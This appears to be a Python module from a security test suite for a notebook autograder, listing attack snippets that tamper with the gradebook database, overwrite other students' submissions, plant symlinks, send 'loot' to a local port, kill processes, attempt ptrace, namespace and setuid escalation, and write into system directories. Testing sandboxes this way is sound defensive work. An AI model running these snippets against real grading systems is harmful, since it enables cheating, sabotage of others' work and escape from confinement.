"""Attacks that reach out: files of others, the network, the grader's process, its rights."""

from .attack import Attack, before

ATTACKS = [
    Attack(
        "the gradebook",
        "Gives everybody in the gradebook full marks.",
        before("""
import sqlite3
book = sqlite3.connect("@COURSE@/gradebook/gradebook.db", timeout=20)
book.execute("update grade set manual_score = 100, needs_manual_grade = 0")
book.commit()
"""),
        quick=True,
    ),
    Attack(
        "the solutions overwritten",
        "Writes into the solutions, the course's settings, and the grader's home.",
        before("""
def spoil(place):
    try:
        with open(place, "a") as file:
            file.write("# spoilt")
    except OSError:
        pass
spoil("@COURSE@/solutions/03_two_weights/two_weights.ipynb")
spoil("@COURSE@/nbgrader_config.py")
spoil("@HOME@/.bashrc")
"""),
        quick=True,
    ),
    Attack(
        "another submission overwritten",
        "Empties what another student handed in.",
        before("""
import pathlib
for place in pathlib.Path("@COURSE@/gradebook/submitted").rglob("*.ipynb"):
    if "a-victim" in str(place):
        place.write_text("{}")
"""),
        quick=True,
    ),
    Attack(
        "upwards",
        "Looks for the gradebook from its own folder upwards and deletes what it finds.",
        before("""
import pathlib, shutil
for folder in pathlib.Path.cwd().parents:
    for place in folder.glob("submitted/a-victim"):
        shutil.rmtree(place)
"""),
    ),
    Attack(
        "symbolic links",
        "Puts a link to another's file where the grader will write the graded notebook.",
        before("""
import os, pathlib
victim = "@COURSE@/gradebook/submitted/a-victim/03_two_weights/two_weights.ipynb"
graded = "gradebook/autograded/mallory/03_two_weights/two_weights.ipynb"
for place in ("two_weights.ipynb", "@COURSE@/" + graded):
    try:
        if os.path.lexists(place):
            os.unlink(place)
        os.makedirs(os.path.dirname(place) or ".", exist_ok=True)
        os.symlink(victim, place)
    except OSError as error:
        print(error)
"""),
    ),
    Attack(
        "the network",
        "Sends what it knows to a server.",
        before("""
import socket
for family, address in [(socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")]:
    try:
        socket.create_connection((address, int("@PORT@")), timeout=2).sendall(b"loot")
    except OSError:
        pass
"""),
        quick=True,
    ),
    Attack(
        "kill the parent",
        "Kills the process that started it.",
        before("""
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
"""),
        quick=True,
    ),
    Attack(
        "kill everything",
        "Kills every process that it may.",
        before("""
import os, signal
os.kill(-1, signal.SIGKILL)
"""),
        quick=True,
    ),
    Attack(
        "kill the group",
        "Stops and kills its process group and its session, before that it ignores all signals.",
        before("""
import os, signal
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
os.killpg(0, signal.SIGSTOP) if os.getpgid(0) != os.getpid() else None
os.kill(os.getppid(), signal.SIGSTOP)
"""),
    ),
    Attack(
        "debugger",
        "Attaches to its parent as a debugger and writes into its memory.",
        before("""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long] * 4
for process in (os.getppid(), 1):
    if process not in (0, os.getpid()) and libc.ptrace(16, process, 0, 0) == 0:
        os.waitpid(process, 0)
        libc.ptrace(8, process, 0, 0)
"""),
    ),
    Attack(
        "new name spaces",
        "Makes itself root in a user namespace, mounts, and enters the spaces of others.",
        before("""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
got = [libc.unshare(0x10000000 | 0x20000), libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=64g")]
for name in ("mnt", "pid", "net", "user"):
    for process in (1, os.getppid()):
        try:
            got.append(libc.setns(os.open(f"/proc/{process}/ns/{name}", os.O_RDONLY), 0))
        except OSError:
            pass
    if got[0] == 0 or got[1] == 0:
        try:
            os.chroot("/proc/1/root")
        except OSError:
            pass
try:
    open("@HOME@/.bashrc", "a").write("# spoilt")
except OSError:
    pass
if not any(one == 0 for one in got[:2]):
    raise PermissionError("nothing of it is allowed")
open("/tmp/mine", "w").write("x")
"""),
    ),
    Attack(
        "setuid programs",
        "Runs every program that would give it other rights, and makes one of its own.",
        before("""
import os, shutil, subprocess
shell = shutil.copy("/bin/sh", "shell")
os.chmod(shell, 0o6755)
for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount", "-o", "remount,rw", "/nothing"],
                ["./shell", "-p", "-c", "echo spoilt >> @HOME@/.bashrc"]):
    try:
        subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=2)
    except (OSError, subprocess.SubprocessError):
        pass
"""),
    ),
    Attack(
        "limits raised",
        "Raises its own limits, its priority and its score with the killer of big processes.",
        before("""
import os, resource
for name in dir(resource):
    if name.startswith("RLIMIT_"):
        try:
            resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY,) * 2)
            print(name, "is raised")
        except (OSError, ValueError):
            pass
for what in (lambda: os.nice(-10), lambda: open("/proc/self/oom_score_adj", "w").write("-900")):
    try:
        what()
    except OSError:
        pass
"""),
    ),
    Attack(
        "system files",
        "Writes to the system, to Python's packages, to the course's helpers and to devices.",
        before("""
import glob, os, helpers, numpy
places = [os.path.dirname(module.__file__) for module in (helpers, numpy)]
places += ["/", "/etc", "/usr/bin", "/proc/sys/kernel", "/sys", "/dev", "/course"]
for folder in places:
    try:
        with open(folder + "/downhill-was-here", "x"):
            print("written", folder)
        os.unlink(folder + "/downhill-was-here")
    except OSError:
        pass
"""),
    ),
]
